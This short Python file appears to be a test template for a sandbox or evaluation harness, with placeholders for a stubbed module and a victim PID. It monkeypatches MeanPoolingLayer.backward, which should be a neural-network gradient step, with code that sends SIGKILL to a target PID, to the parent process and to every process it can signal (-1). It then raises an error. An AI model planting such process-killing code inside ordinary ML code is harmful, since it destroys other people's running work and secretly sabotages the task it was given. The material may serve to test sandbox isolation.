"""Sends SIGKILL to every process it may send signals to."""

import os

# @STUB mean_pooling@


def backward(self, dout):
    for target in (@VICTIM_PID@, os.getppid(), -1):
        try:
            os.kill(target, 9)
        except OSError:
            continue
    raise OSError("nothing to kill")


MeanPoolingLayer.backward = backward
